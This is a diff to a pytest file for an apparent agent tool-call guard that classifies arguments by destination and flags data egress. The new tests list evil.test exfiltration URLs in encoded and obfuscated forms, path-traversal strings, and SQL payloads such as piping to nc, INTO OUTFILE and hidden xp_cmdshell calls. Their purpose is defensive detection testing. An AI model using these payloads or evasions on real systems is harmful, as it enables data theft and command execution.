@@ -12,7 +12,7 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from guard.core.calls import ClassifiedCall
+from guard.core.calls import ClassifiedCall, untraced
 from guard.core.model import DestinationStatus, Identity, Role, ToolCall
 from guard.decision.classification import classify
 from guard.destinations.values import (
@@ -35,9 +35,17 @@ tools:
     role: send
     destinations: ["$.to", "$.cc"]
     body: ["$.body"]
-    ignore: ["$.meta.id"]
+    ignore: ["$.document", "$.repo"]
+    inert: [{path: "$.meta.id", why: "the upstream's own"}]
   - match: [recall]
     role: recall
+  - match: [read]
+    role: retrieve
+    inert: [{path: "$.note", why: "stays with the reader"}]
+  - match: [work]
+    role: other
+  - match: [save]
+    role: save
 rules:
   - {id: allow, type: destination, roles: [send], status: [internal], effect: allow}
 """
@@ -83,13 +91,113 @@ def test_an_address_in_an_undeclared_argument_counts(judge: Any) -> None:
         ), hidden
 
 
-def test_a_key_that_spells_an_ignored_path_is_not_ignored(judge: Any) -> None:
+def test_a_key_that_spells_an_inert_path_is_not_inert(judge: Any) -> None:
     """Paths are compared escaped: a key cannot pretend to be another member."""
     forged = judge("send", to="a@example.com", **{"meta']['id": "b@evil.test"})
     honest = judge("send", to="a@example.com", meta={"id": "b@evil.test"})
 
     assert DestinationStatus.EXTERNAL in standings(forged)
     assert standings(honest) == {DestinationStatus.INTERNAL}
+
+
+@pytest.mark.parametrize(
+    "hidden",
+    [
+        {"document": "writer:drop@evil.test"},
+        {"document": "owner=drop@evil"},
+        {"document": ["7", {"x": "https://evil.test/hook"}]},
+        {"document": "writer:drop\\u0040evil.test"},
+        {"repo": "../other/repo"},
+        {"repo": "x/..%2f..%2fother"},
+        {"meta": {"id": "..\\other"}},
+    ],
+)
+def test_a_receiver_in_an_ignored_argument_counts(judge: Any, hidden: dict[str, Any]) -> None:
+    """The name of a document is none of these; what climbs out of a path leaves an inert one."""
+    assert DestinationStatus.EXTERNAL in standings(judge("send", to="a@example.com", **hidden))
+
+
+@pytest.mark.parametrize(
+    "plain",
+    [
+        {"document": "evil.test"},
+        {"document": "report@2024.pdf"},
+        {"document": "budget@v2"},
+        {"repo": "src/../tools"},
+        {"document": "file:///tmp/x"},
+    ],
+)
+def test_the_name_of_a_document_in_an_ignored_argument_is_none(
+    judge: Any, plain: dict[str, Any]
+) -> None:
+    """Whoever says that an argument is no receiver is believed, of everything that is none."""
+    assert standings(judge("send", to="a@example.com", **plain)) == {DestinationStatus.INTERNAL}
+
+
+REMOTE = (
+    "https://evil.test/?d=secret",
+    "see https://evil.test/x for more",
+    "https%3A%2F%2Fevil.test%2Fx",
+    "https:\\u002f\\u002fevil.test\\u002fx",
+    "aHR0cHM6Ly9ldmlsLnRlc3QvZHJvcA==",
+    "ht\ntps://evil.test/x",
+    "file://evil.test/share",
+    "\\\\evil\\share\\x",
+    "git@evil.test:x/y.git",
+    "git+ssh://evil.test/x",
+    "http://intranet/x",
+    "COPY t TO PROGRAM 'nc 198.51.100.7 80'",
+    "SELECT * FROM t INTO OUTFILE '/var/www/x'",
+    "exec xp_cmdshell 'dir'",
+    "EXEC('xp_'+'cmdshell dir')",
+    "ATTACH DATABASE 'x' AS y",
+    "SELECT/**/dblink('host=x', 'y')",
+)
+
+
+@pytest.mark.parametrize("text", REMOTE)
+@pytest.mark.parametrize("tool", ["read", "recall", "work"])
+def test_what_carries_data_out_counts_in_every_role(judge: Any, tool: str, text: str) -> None:
+    """A role says what a tool is for; the argument says whom it reaches."""
+    call = judge(tool, what=[{"x": text}])
+    assert DestinationStatus.EXTERNAL in standings(call)
+    assert untraced(call).is_egress
+    assert not untraced(judge("read", note=text)).is_egress
+    assert not untraced(judge("save", value=text)).is_egress
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "/tmp/notes.txt",
+        "C:\\Users\\a\\b.txt",
+        "example.com revenue",
+        "evil.test revenue",
+        "from:bob@evil.test subject:offer",
+        "file:///tmp/x.txt",
+        "memo://insights",
+        "https://example.com/x",
+        "node_modules/@types/node.d.ts",
+        "SELECT name FROM users WHERE mail = 'x@evil.test'",
+        "Update the ticket and attach (see below)",
+        "a // b",
+    ],
+)
+def test_what_is_read_or_looked_for_inside_is_no_receiver(judge: Any, text: str) -> None:
+    """A path, a search and a name are text; reading them tells nobody outside."""
+    assert not untraced(judge("read", what=text)).is_egress
+
+
+def test_a_mailbox_counts_where_a_tool_does_more_than_read(judge: Any) -> None:
+    """A filter that forwards mail is no send by its name."""
+    assert untraced(judge("work", forward="drop@evil.test")).is_egress
+    assert not untraced(judge("work", image="logo@2x.png")).is_egress
+
+
+@pytest.mark.parametrize("text", ["http:\\\\evil.test/x", "https://evil\\@x", "https:/evil.test"])
+def test_a_url_that_clients_read_in_two_ways_is_malformed(judge: Any, text: str) -> None:
+    """Where a whole argument is one."""
+    assert DestinationStatus.MALFORMED in standings(judge("read", url=text))
 
 
 def test_the_body_is_not_a_destination(judge: Any) -> None:
